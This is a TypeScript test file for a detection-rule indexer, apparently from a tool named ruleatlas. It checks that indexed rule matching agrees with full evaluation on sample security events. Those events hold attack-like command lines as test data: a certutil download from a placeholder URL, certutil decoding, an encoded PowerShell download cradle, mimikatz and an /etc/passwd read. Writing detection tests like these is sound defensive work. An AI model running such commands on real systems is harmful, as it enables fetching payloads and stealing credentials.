// The fire index against trying every rule: on each event and on near misses of it, the rules it finds
// are exactly those evaluateRule says fire or may, with the same evaluations (an index that left a rule
// out would fail here); fixtures/fire-rules holds a rule for each kind of key. And `ruleatlas fire --json`.
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { AttackCatalog } from '../attack/catalog.js';
import { captureOutput } from '../cli/capture-output.js';
import { main } from '../cli/main.js';
import { evaluatorFor } from '../languages/evaluate.js';
import { prepareLanguages } from '../languages/registry.js';
import { platformInfo } from '../platforms/registry.js';
import { writeCatalog, type WriteOptions } from '../pipeline/write.js';
import { CatalogStore } from '../store/read.js';
import type { SyncedSource } from '../sync/keys.js';
import { recogniseLog } from './event-log.js';
import { FireIndex } from './fire.js';
import { fireEvents, fireEventsJson } from './fire-report.js';
import { evaluateRule, PreparedEvent } from './rule.js';
import { readSigmaSamples } from './sigma-samples.js';

const here = (path: string) => fileURLToPath(new URL(path, import.meta.url));
const prepare: WriteOptions['prepare'] = async (languages) => {
  await prepareLanguages(languages);
  return { attack: AttackCatalog.empty() };
};

const sysmon = (fields: Record<string, unknown>) => ({ Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 1, ...fields });
const windowsXml = (channel: string, eventId: number, data: Record<string, unknown>) => ({
  Event: { System: { Provider: { '#attributes': { Name: 'Fixture' } }, EventID: eventId, Channel: channel }, EventData: data },
});
const events: { event: unknown; logType?: string }[] = [
  { event: sysmon({ Image: 'C:\\Windows\\System32\\whoami.exe', CommandLine: 'whoami /all' }) },
  { event: sysmon({ Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -decode a.b64 a.exe' }) },
  // Case differs from the rule's values: containment without case still finds the rule.
  { event: sysmon({ Image: 'C:\\WINDOWS\\SYSTEM32\\CERTUTIL.EXE', CommandLine: 'CERTUTIL /DECODE A B', EventID: '1' }) },
  { event: sysmon({ OriginalFileName: 'certutil.exe', CommandLine: ['x', 'certutil -urlcache -f http://a/b c'] }) },
  { event: sysmon({ Image: 'C:\\Windows\\notepad.exe', CommandLine: 'notepad' }) },
  { event: { eventtype: 'user.session.impersonation.initiate' }, logType: 'okta/okta' },
  { event: { eventtype: 'user.session.impersonation.initiate' } },
  // Rules of one index and different EQL categories: the log check is not the same for both.
  { event: { _index: 'logs-endpoint.events.network-default', event: { category: ['network'] }, destination: { port: 4444 } } },
  { event: { _index: 'logs-endpoint.events.process-default', event: { category: 'process' }, process: { name: 'cmd.exe', args: ['/k'] } } },
  { event: { _index: 'logs-endpoint.events.process-default', event: { category: 'process' }, process: { name: 'WhoAmI.exe' } } },
  // A process by name in a network event: the plain query's category check says no, the sequence's has none.
  { event: { _index: 'logs-endpoint.events.network-default', event: { category: 'network' }, process: { name: 'whoami.exe' } } },
  { event: { eventSource: 'cloudtrail.amazonaws.com', eventName: 'StopLogging' }, logType: 'aws/cloudtrail' },
  { event: { _index: 'logs-web-default', message: 'GET /a?f=/etc/passwd', process: { name: 'curl' } } },
  // A regex's literal texts: each branch of its alternation, its optional characters left out, `ſ` matching `s` without case.
  { event: sysmon({ Image: 'C:\\Windows\\System32\\LSASS.exe', ParentImage: 'C:\\Windows\\explorer.exe' }) },
  { event: sysmon({ Image: 'C:\\Temp\\abcsesion12.exe' }) },
  { event: sysmon({ Image: 'C:\\Temp\\abc\u017fe\u017f\u017fion1.exe' }) },
  { event: sysmon({ Image: 'C:\\Temp\\\u017fa\u017f\u017fy.exe' }) },
  { event: sysmon({ Image: 'C:\\Windows\\1qz.cpl' }) },
  // An encoded value (base64 at any offset), a list of more than 64 names.
  { event: sysmon({ CommandLine: 'powershell -enc eElFWCAoTmV3LU9iamVjdCBOZXQuV2ViQ2xpZW50KQ==', Image: 'C:\\x\\tool77.exe' }) },
  // Windows events as XML rendered to JSON (the Sigma regression samples' shape): languages that flatten
  // them find their fields, the others only `Event`; a Security 4688 names Sigma's Image `NewProcessName`.
  {
    event: windowsXml('Microsoft-Windows-Sysmon/Operational', 1, {
      Image: 'C:\\Windows\\System32\\whoami.exe',
      CommandLine: 'whoami /all',
    }),
  },
  { event: windowsXml('Security', 4688, { NewProcessName: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -decode a b' }) },
  // Texts shorter than a trigram: two characters, one Cyrillic letter, an emoji (two code units), a regex's backticks.
  { event: sysmon({ CommandLine: 'cmd /c e^^cho hi' }) },
  { event: sysmon({ CommandLine: 'cmd /c d\u0430te' }) },
  { event: sysmon({ CommandLine: 'echo \u{1F600} x' }) },
  { event: sysmon({ CommandLine: 'powershell i`e`x (a)' }) },
  // A term in any column, a dynamic column's JSON text too.
  { event: { Computer: 'dc1', CommandLine: 'run MIMIKATZ now' }, logType: 'SecurityEvent' },
  { event: { Computer: 'dc1', EventData: { Tool: 'mimikatz' } }, logType: 'SecurityEvent' },
  // SQL columns without case (`EventType` for `eventType`), YARA-L paths exported in camelCase.
  { event: { EventType: 'user.session.impersonation.initiate', Outcome: { result: 'SUCCESS' } }, logType: 'Okta.SystemLog' },
  {
    event: {
      metadata: { eventType: 'PROCESS_LAUNCH' },
      principal: { process: { commandLine: 'C:\\Windows\\whoami.exe /all' } },
      securityResult: [{ action: 'ALLOW' }],
    },
  },
];

/** The sample events of other providers (fixtures/fire-events.jsonl), each with the log it names. */
function fixtureEvents(): { event: unknown; logType?: string }[] {
  const text = readFileSync(here('fixtures/fire-events.jsonl'), 'utf8');
  return text
    .split('\n')
    .filter((line) => line.trim())
    .map((line) => JSON.parse(line) as { event: unknown; logType?: string });
}

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

/**
 * Events close to one: each scalar in turn with its last character dropped, upper-cased, a number
 * given as text or moved by one, and each key in turn left out: the values an index could miss.
 */
function nearMisses(event: unknown): unknown[] {
  const out: Json[] = [];
  const root = event as Json;
  const visit = (node: Json, replace: (v: Json | undefined) => Json) => {
    if (Array.isArray(node))
      node.forEach((child, i) => visit(child, (v) => replace(node.flatMap((c, j) => (j !== i ? [c] : v === undefined ? [] : [v])))));
    else if (node !== null && typeof node === 'object') {
      for (const key of Object.keys(node)) {
        const rest = (v: Json | undefined) => {
          const copy = { ...node };
          if (v === undefined) delete copy[key];
          else copy[key] = v;
          return replace(copy);
        };
        out.push(rest(undefined));
        visit(node[key]!, rest);
      }
    } else if (typeof node === 'string') out.push(replace(node.slice(0, -1)), replace(node.toUpperCase()));
    else if (typeof node === 'number') out.push(replace(String(node)), replace(node + 1));
  };
  visit(root, (v) => v ?? null);
  return out;
}

describe('fire', () => {
  const dir = mkdtempSync(join(tmpdir(), 'ruleatlas-fire-'));
  after(() => rmSync(dir, { recursive: true, force: true }));
  const db = join(dir, 'catalog.db');
  const date = '2026-01-01T00:00:00.000Z';
  const sources: SyncedSource[] = [
    { name: 'mini', root: here('../../test/mini-corpus'), commit: '', date },
    { name: 'sigma', root: here('../formats/sigma/fixtures'), commit: '', date },
    { name: 'fire', root: here('fixtures/fire-rules'), commit: '', date },
  ];

  test('the index finds exactly the rules that fire or may, as trying every rule does, on near misses and the Sigma regression samples too', async () => {
    await writeCatalog(db, sources, { prepare, mine: [] });
    const store = CatalogStore.open(db);
    try {
      // Pieces looked for one by one (`includes`) or by the pass over the text, whatever their number: both ways give the same answers.
      const indexes = [
        new FireIndex(store.rules),
        new FireIndex(store.rules, { fewPieces: 0 }),
        new FireIndex(store.rules, { fewPieces: Infinity }),
      ];
      const evaluated = store.rules.filter((r) => evaluatorFor(r.language));
      const byId = [...evaluated].sort((a, b) => a.id.localeCompare(b.id));
      const all = [...events, ...fixtureEvents()].map((e) => ({ ...e, variants: [e.event, ...nearMisses(e.event)] }));
      // The Sigma regression samples (Windows events as XML rendered to JSON), as they are, when the shared corpus has them.
      const samples = join(here('../../../shared/corpus'), 'sigma-regression');
      const sampleEvents = existsSync(samples) ? readSigmaSamples(samples).flatMap((s) => s.events) : [];
      for (const event of sampleEvents) all.push({ event, variants: [event] });
      const schemas = new Set(evaluated.map((r) => platformInfo(r.platform)?.schema).filter((x): x is string => x !== undefined));
      assert.ok(schemas.size >= 4, [...schemas].join(', '));
      let found = 0;
      let tried = 0;
      const firing = new Set<string>();
      for (const { event, logType, variants } of all) {
        for (const variant of variants) {
          const log = recogniseLog(variant, logType);
          const prepared = new PreparedEvent(variant, log);
          const every = byId
            .filter((r) => evaluateRule(r, prepared).fires !== 'no')
            .map((r) => ({ id: r.id, evaluation: evaluateRule(r, prepared, { trace: true }) }));
          for (const index of indexes) {
            const fired = index.fire(variant, log);
            const indexed = fired.map((f) => ({ id: f.rule.id, evaluation: f.evaluation }));
            assert.deepEqual(indexed, every, JSON.stringify(variant));
            // Asked for one schema's rules (an event mapped to it), the index answers those of the whole list on that schema.
            if (variant === event)
              for (const schema of schemas)
                assert.deepEqual(
                  index.fire(variant, log, schema),
                  fired.filter((f) => platformInfo(f.rule.platform)?.schema === schema),
                  `${schema}: ${JSON.stringify(variant)}`,
                );
            for (const f of fired) firing.add(f.rule.id);
          }
          found += every.length;
          tried++;
        }
      }
      assert.ok(tried > 300, `only ${tried} events and near misses`);
      assert.ok(found >= 5, `only ${found} rules fired over the events`);
      // Rules of languages without an evaluator are counted, not tried.
      assert.equal(indexes[0]!.notEvaluated, store.rules.filter((r) => !evaluatorFor(r.language)).length);
      // Each fixture rule fires or may on some event: the comparison above covers every kind of key.
      // (A YARA-L rule is named by its identifier.)
      const fixtureRules = evaluated.filter((r) => r.name.startsWith('Fixture fire - ') || r.name.startsWith('fixture_fire_'));
      assert.equal(fixtureRules.length, 32);
      const silent = fixtureRules.filter((r) => !firing.has(r.id)).map((r) => r.name);
      assert.deepEqual(silent, []);
    } finally {
      store.close();
    }
  });

  test('warm compiles ahead in slices, going on where it stopped, and changes no answer', () => {
    const store = CatalogStore.open(db);
    try {
      const warmed = new FireIndex(store.rules);
      assert.equal(warmed.warm(performance.now() - 1), false, 'a deadline passed already: nothing done');
      let slices = 1;
      while (!warmed.warm(performance.now() + 1)) slices++;
      assert.ok(slices < 10_000, `${slices} slices`);
      assert.equal(warmed.warm(performance.now() - 1), true, 'done: nothing left');
      const cold = new FireIndex(store.rules);
      for (const { event, logType } of events) {
        const log = recogniseLog(event, logType);
        assert.deepEqual(warmed.fire(event, log), cold.fire(event, log));
      }
    } finally {
      store.close();
    }
  });

  test('POST /api/fire writes the same JSON as fireEvents, the shared answers written once', () => {
    const store = CatalogStore.open(db);
    try {
      const index = new FireIndex(store.rules);
      const all = [...events, ...fixtureEvents()];
      for (const round of [1, 2])
        for (const { event, logType } of all) {
          const limit = { deadline: Infinity, ...(logType ? { logType } : {}) };
          const bytes = fireEventsJson(index, [event, event], limit);
          assert.ok(Buffer.isBuffer(bytes));
          assert.equal(
            bytes.toString('utf8'),
            JSON.stringify(fireEvents(index, [event, event], limit)),
            `round ${round}: ${JSON.stringify(event)}`,
          );
        }
    } finally {
      store.close();
    }
  });

  test('fire --json: one entry per event, the rules that fire with their trace', async () => {
    const file = join(dir, 'events.jsonl');
    writeFileSync(
      file,
      events
        .slice(0, 2)
        .map((e) => JSON.stringify(e.event))
        .join('\n'),
    );
    const io = captureOutput();
    assert.equal(await main(['fire', file, '--db', db, '--json'], io), 0, io.stderr);
    const out = JSON.parse(io.stdout) as {
      event: number;
      logType: string;
      rules: { name: string; fires: string; mapped: boolean; trace: unknown[] }[];
    }[];
    assert.deepEqual(
      out.map((e) => [e.event, e.logType]),
      [
        [0, 'Microsoft-Windows-Sysmon/Operational 1'],
        [1, 'Microsoft-Windows-Sysmon/Operational 1'],
      ],
    );
    const first = out[0]!.rules.find((r) => r.name === 'Fixture - Whoami execution');
    assert.equal(first?.fires, 'yes');
    assert.equal(first.mapped, false);
    assert.ok(first.trace.length > 0);
    assert.ok(out[1]!.rules.some((r) => /certutil/i.test(r.name) && r.fires === 'yes'));
    assert.ok(!out[1]!.rules.some((r) => r.name === 'Fixture - Whoami execution'));
  });

  test('fire --over-events: the file as one ordered list for the rules over several events (an EQL sequence)', async () => {
    const process = (name: string, at: string, host = 'h1') => ({
      _index: 'logs-endpoint.events.process-default',
      '@timestamp': at,
      event: { category: ['process'] },
      host: { id: host },
      process: { name },
    });
    const run = async (list: unknown[], ...extra: string[]) => {
      const file = join(dir, 'sequence.jsonl');
      writeFileSync(file, list.map((e) => JSON.stringify(e)).join('\n'));
      const io = captureOutput();
      assert.equal(await main(['fire', file, '--db', db, '--json', ...extra], io), 0, io.stderr);
      return JSON.parse(io.stdout) as unknown;
    };
    const inOrder = [process('whoami.exe', '2026-01-01T00:00:00Z'), process('cmd.exe', '2026-01-01T00:00:05Z')];
    type Over = { events: { event: number }[]; overEvents: { name: string; fires: string; events: number[] }[] };
    const over = (await run(inOrder, '--over-events')) as Over;
    assert.equal(over.events.length, 2);
    const sequence = over.overEvents.find((r) => r.name === 'Fixture fire - whoami then cmd');
    assert.equal(sequence?.fires, 'yes', JSON.stringify(over.overEvents));
    assert.deepEqual(sequence.events, [0, 1]);
    // Event by event, a sequence is open at best; out of order or on two hosts, the list does not hold it.
    const single = (await run(inOrder)) as { rules: { name: string; fires: string }[] }[];
    assert.ok(!single.some((e) => e.rules.some((r) => r.name === sequence.name && r.fires === 'yes')));
    const reversed = (await run([...inOrder].reverse(), '--over-events')) as Over;
    assert.ok(!reversed.overEvents.some((r) => r.name === sequence.name && r.fires === 'yes'));
    const twoHosts = (await run([inOrder[0], process('cmd.exe', '2026-01-01T00:00:05Z', 'h2')], '--over-events')) as Over;
    assert.ok(!twoHosts.overEvents.some((r) => r.name === sequence.name && r.fires === 'yes'));
  });

  test('fire maps a raw Okta event to each schema: the Elastic rule fires mapped to ECS; --no-map turns it off', async () => {
    const file = join(dir, 'okta.json');
    writeFileSync(
      file,
      JSON.stringify({
        eventType: 'user.session.impersonation.initiate',
        actor: { alternateId: 'admin@corp.test', type: 'User' },
        outcome: { result: 'SUCCESS' },
      }),
    );
    type Out = {
      provider: { id: string } | null;
      rules: { platform: string; fires: string; mapped: boolean; mappedTo?: { schema: string } }[];
    }[];
    const run = async (...extra: string[]) => {
      const io = captureOutput();
      assert.equal(await main(['fire', file, '--db', db, '--json', ...extra], io), 0, io.stderr);
      return JSON.parse(io.stdout) as Out;
    };
    const [mapped] = await run();
    assert.equal(mapped!.provider?.id, 'okta');
    const yes = (platform: string) => mapped!.rules.find((r) => r.platform === platform && r.fires === 'yes');
    assert.equal(yes('elastic')?.mappedTo?.schema, 'ecs');
    assert.ok(mapped!.rules.every((r) => r.mapped === (r.mappedTo !== undefined)));
    const [asGiven] = await run('--no-map');
    assert.equal(asGiven!.provider, null);
    assert.ok(!asGiven!.rules.some((r) => r.fires === 'yes' || r.mapped), JSON.stringify(asGiven));
  });
});
